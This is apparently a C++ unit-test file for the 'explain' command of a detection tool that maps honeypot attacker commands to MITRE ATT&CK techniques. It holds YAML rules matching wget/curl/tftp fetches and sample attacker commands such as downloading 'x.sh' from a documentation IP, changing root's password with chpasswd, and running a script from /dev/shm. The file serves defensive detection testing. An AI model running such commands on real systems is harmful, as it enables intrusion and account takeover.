// SPDX-License-Identifier: Apache-2.0
#include <doctest/doctest.h>

#include "base/error.hpp"
#include "cli/explain_input.hpp"
#include "cli/explain_mark.hpp"
#include "cli/explain_text.hpp"
#include "pipeline/taggers.hpp"
#include "support.hpp"

namespace ttp::cli::explain_test {

namespace {

const Timestamp now = *parse_timestamp("2026-11-07T10:00:00Z");

const char* const fetch =
    "rule_id: R9001\n"
    "rule_version: 2\n"
    "name: fetch\n"
    "applies_to: [command]\n"
    "match:\n"
    "  any:\n"
    "    - {pattern: '\\b(?:wget|curl)\\s+https?://'}\n"
    "    - {pattern: '\\btftp\\s+-g'}\n"
    "emits: [{tactic: TA0011, technique_id: T1105, confidence: 0.85}]\n"
    "evidence_fields: [command_text]\n";

const char* const password =
    "rule_id: R9002\n"
    "rule_version: 1\n"
    "name: password_change\n"
    "applies_to: [command]\n"
    "match:\n"
    "  all:\n"
    "    - {contains: chpasswd}\n"
    "    - not: {pattern: '^\\s*#'}\n"
    "emits: [{tactic: TA0003, technique_id: T1098, confidence: 0.7}]\n";

const char* const statement =
    "rule_id: R9003\n"
    "rule_version: 1\n"
    "name: shell_from_memory\n"
    "applies_to: [command]\n"
    "match:\n"
    "  scope: statement\n"
    "  all:\n"
    "    - {field: argv0, in: [sh, bash]}\n"
    "    - {field: args, contains: /dev/shm/}\n"
    "emits: [{tactic: TA0002, technique_id: T1059, sub_technique_id: T1059.004, confidence: 0.9}]\n";

const char* const counting =
    "rule_id: R9004\n"
    "rule_version: 1\n"
    "name: many_who_am_i\n"
    "applies_to: [command]\n"
    "match:\n"
    "  pattern: '\\bwhoami\\b'\n"
    "  aggregate: {count: '>= 3', by: [session_id], within: 5m}\n"
    "emits: [{tactic: TA0007, technique_id: T1033, confidence: 0.6}]\n";

const char* const login =
    "rule_id: R9005\n"
    "rule_version: 1\n"
    "name: odd_login\n"
    "applies_to: [auth_attempt]\n"
    "match:\n"
    "  any:\n"
    "    - {field: password, pattern: 'ter\\d'}\n"
    "    - {field: attempts, gte: 10}\n"
    "emits: [{tactic: TA0006, technique_id: T1110, confidence: 0.5}]\n";

const char* const brute =
    "rule_id: R9006\n"
    "rule_version: 1\n"
    "name: brute_force\n"
    "applies_to: [auth_attempt]\n"
    "match: {kind: 'lifter:credential_auth_brute_generic', fail_threshold: 5, window_minutes: 5}\n"
    "emits: [{tactic: TA0006, technique_id: T1110, confidence: 0.85}]\n"
    "evidence_fields: [fail_count]\n";

/// A pack with states, loaded as a run would load it.
struct Pack {
  test::TemporaryDirectory directory;
  rule::LoadedRules rules;
  pipeline::Taggers taggers;

  Pack() {
    for (const char* text : {fetch, password, statement, counting, login, brute}) {
      directory.write("ttp/" + std::string(text).substr(9, 5) + ".yaml", text);
    }
    rule::RuleSource source;
    source.directory = directory.path() / "ttp";
    source.states["R9001"].mode = rule::Mode::clipped;
    source.states["R9001"].confidence_max = 0.4;
    source.states["R9001"].expires_at = parse_timestamp("2026-11-08");
    source.states["R9001"].reason = "too\tnoisy";
    source.states["R9002"].mode = rule::Mode::disabled;
    source.states["R9002"].set_by = "alice";
    rules = rule::load_rules(source);
    pipeline::TaggerOptions options;
    options.notice = [](std::string_view) {};
    Diagnostics diagnostics;
    taggers = pipeline::make_taggers(*rules.set, options, diagnostics);
    CHECK(diagnostics.empty());
  }

  cli::Explainer explainer(cli::ExplainerOptions options = {}) {
    if (!options.state_time) options.state_time = now;
    return cli::Explainer(*rules.set, *taggers.composite, std::move(options));
  }

  /// The directory's name differs from run to run.
  [[nodiscard]] std::string pinned(std::string text) const {
    const std::string name = directory.path().string();
    for (std::size_t at = 0; (at = text.find(name)) != std::string::npos;) {
      text.replace(at, name.size(), "PACK");
    }
    return text;
  }
};

std::string command(std::string_view text, std::string_view rest = "") {
  std::string json = R"({"source_kind":"command","source_id":"e1","attacker_uuid":"a1",)"
                     R"("session_id":"s1","ts":"2026-11-07T09:00:00Z","payload":{"command_text":)";
  append_json_string(json, text);
  return json.append(rest).append("}}");
}

std::string login_event(std::string_view payload) {
  return R"({"source_kind":"auth_attempt","source_id":"e2","attacker_uuid":"a1","payload":)" +
         std::string(payload) + "}";
}

const std::vector<std::pair<const char*, std::string>>& made_up_lines() {
  static const std::vector<std::pair<const char*, std::string>> lines = {
      {"matched, and lowered by its state", command("cd /tmp; wget  http://203.0.113.9/x.sh")},
      {"close, in a group", command("curl -O http://203.0.113.9/x.sh")},
      {"matched, but silenced", command("echo root:x | chpasswd", R"(,"uid":0)")},
      {"what must not hold does", command("# chpasswd\n\x1b[31m")},
      {"a statement", command("ls; sudo bash -c /dev/shm/x; id")},
      {"a statement that comes close", command("bash /tmp/x")},
      {"counting", command("whoami")},
      {"a secret field, matched and not", login_event(R"({"password":"hunter2","username":"root"})")},
      {"a lifter that fires", login_event(R"({"fail_count":7,"attempts":3,"x":{"password":1}})")},
      {"nobody looks at it", R"({"source_kind":"payload","source_id":"e3","payload":{}})"},
      {"no anchor", R"({"source_kind":"command","source_id":"e4","payload":{"command_text":"tftp -g x"}})"},
  };
  return lines;
}

}  // namespace

TEST_CASE("explanations of made-up events read as recorded") {
  Pack pack;
  std::string text;
  for (const auto& [title, json] : made_up_lines()) {
    const test::OwnedEvent event(json);
    auto explainer = pack.explainer();
    text += "== " + std::string(title) + "\n\n" +
            cli::format_explanation(explainer.explain(event), {100, false, false}) + "\n";
  }
  test::check_fixture(test::data_path("unit/cli/explain.txt"), pack.pinned(text));
}

TEST_CASE("explanations as JSON read as recorded and are JSON") {
  Pack pack;
  std::string text;
  for (const auto& [title, json] : made_up_lines()) {
    const test::OwnedEvent event(json);
    auto explainer = pack.explainer();
    text += cli::format_explanation_json(explainer.explain(event), false);
  }
  test::check_fixture(test::data_path("unit/cli/explain.jsonl"), pack.pinned(text));
}

TEST_CASE("nothing secret is ever shown") {
  Pack pack;
  const std::string secret = "S3CRET-ter9";
  for (const char* name : {"password", "body_text", "body", "note_text", "Password"}) {
    std::string payload = "{\"attempts\":\"x\",\"nested\":{\"password\":\"" + secret + "\"},\"";
    payload += std::string(name) + "\":\"" + secret + "\"}";
    const test::OwnedEvent event(login_event(payload));
    auto explainer = pack.explainer();
    const auto report = explainer.explain(event);
    CHECK(cli::format_explanation(report, {100, false, true}).find("S3CRET") == std::string::npos);
    CHECK(cli::format_explanation_json(report, true).find("S3CRET") == std::string::npos);
  }
  CHECK(cli::without_secrets(R"({"a":1,"password":"x","body":{"y":2}})") ==
        R"x({"a":1,"password":"(hidden)","body":"(hidden)"})x");
}

TEST_CASE("only the rules asked for, the floor asked for, every rule in full") {
  Pack pack;
  cli::ExplainerOptions options;
  options.rule_ids = {"R9001"};
  options.floor = 0.5;
  auto explainer = pack.explainer(options);
  const test::OwnedEvent event(command("wget http://x"));
  const auto report = explainer.explain(event);
  REQUIRE(report.rules.size() == 1);
  REQUIRE(report.tags.size() == 1);
  CHECK(report.tags[0].fate == cli::Fate::below_floor);
  CHECK(report.tags[0].tag.confidence == 0.4);
  auto all = pack.explainer();
  const std::string text = cli::format_explanation(all.explain(event), {100, false, true});
  CHECK(text.find("looks at auth_attempt only") != std::string::npos);
  CHECK(text.find("R9002 password_change") != std::string::npos);
}

TEST_CASE("a state is judged when it is asked to be") {
  Pack pack;
  const test::OwnedEvent event(command("wget http://x"));
  cli::ExplainerOptions later;
  later.state_time = parse_timestamp("2026-11-09");
  auto explainer = pack.explainer(later);
  CHECK(explainer.explain(event).tags[0].tag.confidence == 0.85);
  // At the event's time, the day before, it is in force.
  cli::Explainer at_event(*pack.rules.set, *pack.taggers.composite, {});
  CHECK(at_event.explain(event).tags[0].tag.confidence == 0.4);
}

TEST_CASE("events before the one that is explained count") {
  Pack pack;
  auto explainer = pack.explainer();
  const test::OwnedEvent event(command("whoami"));
  for (const char* id : {"e2", "e3", "e3"}) {  // the last one was read before
    std::string json = command("whoami");
    json.replace(json.find("e1"), 2, id);
    explainer.pass(test::OwnedEvent(json));
  }
  const auto report = explainer.explain(event);
  CHECK(report.rules.front().rule->identity.id == "R9004");
  CHECK_FALSE(report.rules.front().is_below_count);
  CHECK(report.tags.size() == 1);
}

TEST_CASE("a place in a text is shown with its surroundings") {
  const auto shown = [](std::string_view text, std::size_t begin, std::size_t end,
                        std::size_t columns) {
    const cli::MarkedText marked = cli::mark_text(text, {begin, end}, columns);
    return marked.line + "\n" + marked.marks;
  };
  CHECK(shown("abc def", 4, 7, 40) == "abc def\n    ^^^");
  CHECK(shown("a\tb\x1b", 1, 2, 40) == "a\\tb\\x1b\n ^^");
  CHECK(shown("日本x", 6, 7, 40) == "日本x\n    ^");
  CHECK(shown("abc", 3, 3, 40) == "abc\n   ^");
  CHECK(shown("", 0, 0, 40) == "\n^");
  const std::string text = std::string(200, 'a') + "XYZ" + std::string(200, 'b');
  CHECK(shown(text, 200, 203, 40) ==
        "…" + std::string(17, 'a') + "XYZ" + std::string(20, 'b') + "…\n" + std::string(18, ' ') +
            "^^^");
  CHECK(shown(text, 0, 300, 20) == std::string(20, 'a') + "…\n" + std::string(20, '^'));
  CHECK(shown("aé", 99, 100, 20) == "aé\n  ^");
}

namespace {

/// What `explain` would look at: `passed` events before, then the taken ones.
struct Visited {
  std::vector<std::string> taken;
  std::size_t passed = 0;
  std::uint64_t rejected = 0;
};

Visited visit(cli::ExplainOptions options) {
  options.common.quiet = true;
  cli::Console console(options.common);
  Visited visited;
  cli::EventVisitor visitor;
  visitor.pass = [&](const Event&) { ++visited.passed; };
  visitor.take = [&](const Event& event) {
    visited.taken.push_back(std::string(event.source_kind) + " " + std::string(event.source_id));
  };
  visited.rejected = cli::visit_events(options, visitor, console);
  return visited;
}

using Taken = std::vector<std::string>;

}  // namespace

TEST_CASE("a line of a log is explained with what stands before it") {
  const test::TemporaryDirectory directory;
  const auto record = [](const std::string& id, const std::string& rest) {
    return R"({"eventid":"cowrie.)" + id + R"(","session":"s1","src_ip":"192.0.2.1")" + rest +
           "}\n";
  };
  cli::ExplainOptions options;
  options.input = directory.write("c.log", record("session.connect", "") +
                                               record("command.input", R"(,"input":"id")") + "\n" +
                                               "{broken\n" +
                                               record("command.input", R"(,"input":"ls")") +
                                               record("session.closed", ""))
                      .string();
  options.line = 5;
  const Visited visited = visit(options);
  CHECK(visited.taken == Taken{"command s1#1"});
  CHECK(visited.passed == 1);
  CHECK(visited.rejected == 1);
  options.line = 6;
  CHECK(visit(options).taken == Taken{"session s1"});

  const auto fails = [&](std::uint64_t line, const char* text, ExitCode code) {
    options.line = line;
    try {
      visit(options);
      FAIL("it was taken");
    } catch (const Error& error) {
      CHECK(std::string(error.what()).find(text) != std::string::npos);
      CHECK(error.code() == code);
    }
  };
  fails(1, "makes no event of its own", ExitCode::cannot_run);
  fails(3, "is blank", ExitCode::cannot_run);
  fails(4, "was rejected: ", ExitCode::some_rejected);
  fails(7, "does not exist: the file has 6 lines", ExitCode::cannot_run);
  options.line = 2;
  options.kinds = {"session"};
  CHECK_THROWS_WITH_AS(visit(options), doctest::Contains("only: command"), Error);
  options.kinds.clear();
  options.line.reset();
  CHECK_THROWS_WITH_AS(visit(options), doctest::Contains("--line N says which"), Error);
}

TEST_CASE("an event is given as text, in any format") {
  cli::ExplainOptions options;
  options.input = R"( {"source_kind":"command","source_id":"x","payload":{"command_text":"id"}} )";
  CHECK(visit(options).taken == Taken{"command x"});
  options.input = R"({"session_id":"s","commands":["id","ls"]})";
  CHECK(visit(options).taken == Taken{"session s", "command s#cmd0", "command s#cmd1"});
  options.kinds = {"command"};
  CHECK(visit(options).taken == Taken{"command s#cmd0", "command s#cmd1"});
  options.kinds.clear();
  const auto fails = [&](const std::string& input, const char* text) {
    options.input = input;
    CHECK_THROWS_WITH_AS(visit(options), doctest::Contains(text), Error);
  };
  fails("{", "the argument is not one JSON object");
  fails(R"({"a":1})", "no known format");
  fails(R"({"source_kind":"command","payload":1})", "is no event: 'payload' is not an object");
  fails("no-such-file", "there is no file 'no-such-file'");
  fails("/", "is a directory");
}

}  // namespace ttp::cli::explain_test
